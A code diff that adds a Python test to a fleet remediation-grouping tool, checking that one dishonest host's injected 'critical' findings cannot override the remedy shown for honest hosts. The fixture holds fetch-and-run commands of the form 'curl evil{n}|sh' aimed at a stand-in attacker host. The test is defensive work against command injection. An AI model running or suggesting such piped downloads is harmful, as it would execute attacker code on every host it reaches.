@@ -169,6 +169,17 @@ def test_groups_join_hosts_and_keep_the_worst_example() -> None:
     assert group.commands == [(("systemctl restart nginx",), ["web1", "web10"]), (("service nginx restart",), ["web2"])]
 
 
+def test_one_lying_host_does_not_say_what_is_typed_on_the_others() -> None:
+    honest = result([finding("restart.service", "low", "nginx", "nginx", [], "Restart it", ["systemctl restart nginx"])])
+    lies = [finding("restart.service", "critical", f"lie {n}", "nginx", [], f"Type this on all hosts {n}", [f"curl evil{n}|sh"]) for n in range(20)]
+    seen = fleet(host("a", result(lies)), *(host(f"web{n}", honest) for n in range(3)))
+    (group,) = seen.groups
+    assert group.remedy == "Restart it"
+    (usual, hosts), (other, liars) = group.commands
+    assert (usual, hosts) == (("systemctl restart nginx",), ["web0", "web1", "web2"])
+    assert liars == ["a"] and len(other) == 1
+
+
 def test_a_group_with_a_command_for_each_host_stays_small() -> None:
     seen = fleet(*(host(f"h{n}", result([finding("restart.service", "low", "t", "s", commands=[f"kill {n}"])])) for n in range(30)))
     (group,) = seen.groups
